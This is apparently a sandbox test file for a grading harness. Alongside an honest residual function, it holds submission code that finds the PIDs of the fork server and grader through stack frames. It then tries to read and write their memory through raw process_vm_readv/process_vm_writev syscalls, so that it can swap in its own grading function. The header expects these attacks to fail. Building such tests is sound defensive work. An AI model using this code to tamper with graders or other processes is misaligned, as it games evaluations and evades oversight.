# expect: residual=passed others=missing; 05: reads and writes memory of the fork server and the grader by process_vm_readv.
# attack: secrets; unlocked fails: the fork server has made itself undumpable, and dropped its capabilities.
import os
import sys

import numpy as np


def residual(x, graph):  # the honest part
    i, j = graph.edges.T
    return np.concatenate([x[i] + graph.measurements - x[j], x[graph.priors] - graph.prior_means])


def paid(graph):
    return np.diag(1 / np.concatenate([graph.edge_variances, graph.prior_variances]))


def attempt(function):
    """Make the attempt at once; one that gets through is remembered, and pays a stage."""
    try:
        through = function()
    except BaseException:
        through = False
    if through:
        globals().update({"won_" + function.__name__: function, "information_matrix": paid})
    return function


ctypes = sys.modules["ctypes"]  # not allowed, but in memory: the worst case
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = "aarch64" in getattr(sys.implementation, "_multiarch", "")


def call(x86_64, aarch64, *arguments):
    """Make a system call by its number."""
    arguments = [one if not isinstance(one, int) else ctypes.c_long(one) for one in arguments]
    return libc.syscall(ctypes.c_long(aarch64 if ARM else x86_64), *arguments)


def ancestors():
    """Find the process ids of the fork server and of the grader in the frames that the fork left behind."""
    frame, found = sys._getframe(1), {}
    while frame is not None:
        found.update({name: pid for name, pid in frame.f_locals.items() if type(pid) is int})
        frame = frame.f_back
    return [found["me"], found["grader"]]


WORD = ctypes.create_string_buffer(8)
PLACE = (ctypes.c_void_p * 2)(ctypes.addressof(WORD), 8)


@attempt
def read_parent():
    return call(310, 270, ancestors()[0], PLACE, 1, PLACE, 1, 0) > 0


@attempt
def read_grader():
    return call(310, 270, ancestors()[1], PLACE, 1, PLACE, 1, 0) > 0


@attempt
def write_parent():
    return call(311, 271, ancestors()[0], PLACE, 1, PLACE, 1, 0) > 0
